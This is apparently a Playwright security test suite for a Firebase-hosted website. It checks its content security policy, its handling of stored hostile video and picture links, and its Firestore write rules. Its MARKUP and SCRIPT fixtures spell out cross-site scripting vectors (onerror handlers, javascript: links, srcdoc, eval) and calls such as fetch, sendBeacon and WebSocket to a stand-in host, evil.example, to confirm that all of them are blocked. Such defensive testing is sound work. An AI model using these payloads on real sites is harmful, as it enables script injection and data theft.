import { readFileSync } from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { findLeaks } from '../../scripts/check-dist.mjs'
import { products } from '../../src/copy/products'
import { team } from '../../src/copy/team'
import { readWebUrl } from '../../src/lib/safe-url'
import { parseVideoLink } from '../../src/lib/video-link'
import { HOSTILE_LINKS } from '../../tests/fixtures/hostile-links'
import { storedMember } from '../../tests/fixtures/members'
import { PLAYERS } from '../../tests/fixtures/players'
import { accounts, expect, FIRESTORE, httpTest, owner, PROJECT, SITE_FOLDER, test } from '../fixtures'
import { answerForeignSites } from '../public'

type Header = { key: string; value: string }
const firebase = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../../firebase.json'), 'utf8')) as {
  hosting: { headers: { regex?: string; headers: Header[] }[] }
}
const siteHeaders = firebase.hosting.headers.find(({ regex }) => regex === '.*')?.headers ?? []

httpTest('every answer carries the headers of firebase.json', async ({ baseURL }) => {
  const policy = siteHeaders.find(({ key }) => key === 'Content-Security-Policy')?.value ?? ''
  for (const part of [
    "default-src 'none'",
    "script-src 'self';",
    "frame-ancestors 'none'",
    'upgrade-insecure-requests',
  ])
    expect(policy).toContain(part)
  expect(policy).not.toMatch(/127\.0\.0\.1|localhost|unsafe-eval|http:/)
  for (const route of ['/', '/products', '/admin/dashboard', '/no-such', '/.well-known/security.txt']) {
    const { headers } = await fetch(new URL(route, baseURL))
    for (const { key, value } of siteHeaders) {
      // The local hosting adds only the addresses of the emulators, and leaves requests over http as they are.
      const served = headers.get(key)?.replace(/ http:\/\/127\.0\.0\.1:\d+/g, '')
      expect(served, `${key} of ${route}`).toBe(value.replace('; upgrade-insecure-requests', ''))
    }
  }
})

httpTest('the search for leaks finds the local addresses of the test build', () => {
  const found = findLeaks(SITE_FOLDER).map((line) => line.split(': ').at(-1))
  expect(found).toEqual(expect.arrayContaining(['a local address', 'the local project']))
})

test('injected markup and scripts do not run (P14)', async ({ page, baseURL, consoleGuard }) => {
  consoleGuard.allow(/./)
  const left: string[] = []
  await page.route('**://evil.example/**', (route) => {
    left.push(route.request().url())
    return route.abort()
  })
  // The parser meets this markup, as if a stored text had been inserted unescaped.
  await page.route('/', async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${MARKUP}</body>`) })
  })
  // The script comes from a page of the site, because page.evaluate ignores the content security policy.
  await page.route('**/assets/hostile.js', (route) => route.fulfill({ contentType: 'text/javascript', body: SCRIPT }))
  await page.addInitScript(() => {
    const found = { executed: [], reported: [] as string[], thrown: [] }
    Object.assign(window, found)
    document.addEventListener('securitypolicyviolation', (event) => found.reported.push(event.effectiveDirective))
  })
  await page.goto('/', { waitUntil: 'commit' })
  await page.waitForFunction(() => 'done' in window)
  const { executed, reported, thrown } = await page.evaluate(() => {
    const { executed, reported, thrown } = window as unknown as Record<string, string[]>
    return { executed, reported, thrown }
  })
  console.info(`[figure] hostile injections reported: ${reported?.length}, executed: ${executed?.length}`)
  expect(executed).toEqual([])
  expect(reported?.length).toBeGreaterThanOrEqual(25)
  expect(new Set(reported)).toContain('require-trusted-types-for')
  // Every way from a text to running code or markup throws before it does anything.
  expect(thrown).toEqual(Array.from({ length: 10 }, () => 'TypeError'))
  // Administrators may link a picture of any host, so pictures leave. Nothing else does.
  expect(left.filter((url) => !url.includes('/picture'))).toEqual([])
  expect(left.length, 'the control').toBeGreaterThan(0)

  await page.route('https://framer.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  )
  await page.goto('https://framer.example/')
  await expect.poll(() => page.frames()[1]?.url() ?? '').not.toBe(`${baseURL}/`)
})

// tests/public/hostile-links.test.tsx checks every link; here is one of each kind, stored in the database and opened.

/** Runs in the page: finds links and frames that run code or lead to an unknown host. */
const unsafeAddresses = () => {
  // The placeholders of the footer lead to example.com.
  const known =
    /^(example\.com|wa\.me|www\.(instagram|facebook|tiktok|youtube-nocookie|youtube)\.com|drive\.google\.com)$/
  return [...document.querySelectorAll('[href], [src], [action], [data]')]
    .flatMap((element) => ['href', 'src', 'action', 'data'].map((name) => element.getAttribute(name) ?? ''))
    .filter((value) => {
      const { protocol, host } = new URL(value, location.href)
      if (protocol === 'tel:' || protocol === 'mailto:') return false
      return !/^https?:$/.test(protocol) || (host !== location.host && !known.test(host))
    })
}

/** Stored links with the address of their frame; null where there is none. */
const VIDEOS: readonly [link: string, player: RegExp | null][] = [
  ['javascript:alert(1)//https://www.youtube.com/watch?v=dQw4w9WgXcQ', null],
  ['data:text/html,<script>alert(1)</script>', null],
  ['https://youtu.be@evil.com/dQw4w9WgXcQ', null],
  ...PLAYERS.filter(([link, player]) => player !== null || link.startsWith('https://youtube.com.evil.example/')),
]

test('hostile links and pictures in the database are not shown, and only the known players are framed (P10, P11)', async ({
  page,
}) => {
  await answerForeignSites(page)
  const dates = { createdAt: new Date(), updatedAt: new Date() }
  const createdAt = dates.createdAt.toISOString()
  const videos = VIDEOS.map(([url], at) => ({ id: `v${at}`, title: `t${at}.`, url, createdAt, order: at + 1 }))
  const pictures = HOSTILE_LINKS.filter((link) => typeof readWebUrl(link) === 'string').slice(0, 12)
  await Promise.all([
    owner.put('videos/main-videos', { videos, updatedAt: dates.updatedAt }),
    ...pictures.flatMap((image, at) => {
      const id = String(1_700_000_000_000 + at)
      return [
        owner.put(`products/${id}`, { id, image, name: `p${at}`, order: at + 1, ...dates }),
        owner.put(`team/m${at}`, storedMember(`m${at}`, { name: `n${at}`, image })),
      ]
    }),
  ])
  await page.goto('/videos')
  const dialog = page.getByRole('dialog')
  for (const [at, [url, player]] of VIDEOS.entries()) {
    await page
      .getByRole('main')
      .getByRole('link', { name: `t${at}.` })
      .click()
    await expect(dialog.getByRole('heading')).toHaveText(`t${at}.`)
    await expect(dialog.locator('iframe[src]'), url).toHaveCount(player ? 1 : 0)
    if (player) await expect(dialog.locator('iframe')).toHaveAttribute('src', player)
    // An unknown host may be opened in a tab of its own.
    if (player || parseVideoLink(url).kind === 'refused') expect(await page.evaluate(unsafeAddresses), url).toEqual([])
    await page.keyboard.press('Escape')
    await expect(dialog).toHaveCount(0)
  }
  for (const [route, list, text] of [
    ['/products', products.list, 'p0'],
    ['/team', team.list, 'n0'],
  ] as const) {
    await page.goto(route)
    await expect(page.getByRole('list', { name: list }).getByText(text, { exact: true })).toBeVisible()
    expect(await page.evaluate(unsafeAddresses), route).toEqual([])
  }
})

const TARGETS = [
  'products/1700000000001',
  'products/1700000000001/pictures/full',
  'team/intruder',
  'videos/main-videos',
  'director-texts/main-director',
  'director-photos/main-director-photo',
  'settings/centre',
  'admins/intruder',
  'anything/else',
]

/** Tries to write and to delete every document from the page. Returns the HTTP status of each answer. */
const tryEveryWrite = (page: Page, token: string) =>
  page.evaluate(
    async ({ targets, base, token }) => {
      const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) }
      const body = JSON.stringify({ fields: { name: { stringValue: 'x' } } })
      const ask = async (request: RequestInit, target: string) =>
        (await fetch(`${base}/${target}`, { ...request, headers })).status
      const writes = targets.map((target) => [
        ask({ method: 'PATCH', body }, target),
        ask({ method: 'DELETE' }, target),
      ])
      return Promise.all(writes.flat())
    },
    { targets: TARGETS, base: `http://${FIRESTORE}/v1/projects/${PROJECT}/databases/(default)/documents`, token },
  )

test('neither a visitor nor a signed-up account can write anything from the page (5, 6; P1)', async ({
  page,
  backend,
  consoleGuard,
}) => {
  consoleGuard.allow(/403|status of 400/)
  await backend.seed()
  const everything = () => Promise.all(TARGETS.map((target) => owner.get(target)))
  const before = await everything()
  await page.goto('/')
  const { idToken } = await accounts.signUp('intruder@example.com', 'password-1')
  for (const token of ['', idToken]) {
    const answers = await tryEveryWrite(page, token)
    expect(answers).toEqual(Array.from({ length: TARGETS.length * 2 }, () => 403))
  }
  expect(await everything()).toEqual(before)
  // The control: only the rules refused, which the owner of the emulator is above.
  expect(await tryEveryWrite(page, 'owner')).toEqual(Array.from({ length: TARGETS.length * 2 }, () => 200))
})

const MARKUP = `
<script>executed.push('inline')</script>
<script src="https://evil.example/a.js"></script>
<script src="data:text/javascript,executed.push('data')"></script>
<script type="module">executed.push('module')</script>
<img src="/none" onerror="executed.push('error')">
<svg onload="executed.push('load')"></svg>
<a id="link" href="javascript:executed.push('link')">x</a>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>parent.executed.push('frame')</script>"></iframe>
<object data="https://evil.example/"></object>
<embed src="https://evil.example/">
<base href="https://evil.example/">
<form id="form" action="https://evil.example/"></form>
<link rel="stylesheet" href="https://evil.example/a.css">
<link rel="preload" as="font" crossorigin href="https://evil.example/b.woff2">
<style>
  @import 'https://evil.example/c.css';
  @font-face { font-family: evil; src: url('https://evil.example/d.woff2'); unicode-range: U+0-10FFFF }
  #link { font-family: evil }
  #form { background: url('https://evil.example/picture.png') }
  body::after { content: url('https://evil.example/picture.svg'); filter: url('https://evil.example/e.svg#x') }
</style>
<audio src="http://evil.example/a.mp3" autoplay></audio>
<script src="/assets/hostile.js" type="module"></script>
`

const SCRIPT = `
const attempt = (run) => { try { run() } catch (error) { thrown.push(error instanceof EvalError ? 'TypeError' : error.name) } }
const element = (name) => document.createElement(name)
document.querySelector('#link').click()
document.querySelector('#form').submit()
attempt(() => { element('div').innerHTML = '<img src="/none" onerror="executed.push(1)">' })
attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="executed.push(2)">') })
attempt(() => { element('script').textContent = 'executed.push(3)' })
attempt(() => { element('script').src = 'https://evil.example/a.js' })
attempt(() => { element('iframe').srcdoc = '<p>x</p>' })
attempt(() => { eval('executed.push(4)') })
attempt(() => { new Function('executed.push(5)')() })
attempt(() => { setTimeout('executed.push(6)') })
attempt(() => { new Worker('https://evil.example/w.js') })
attempt(() => { trustedTypes.createPolicy('evil', {}) })
fetch('https://evil.example/').catch(() => {})
try { new WebSocket('wss://evil.example/') } catch {}
navigator.sendBeacon('https://evil.example/', 'x')
setTimeout(() => { window.done = true }, 500)
`
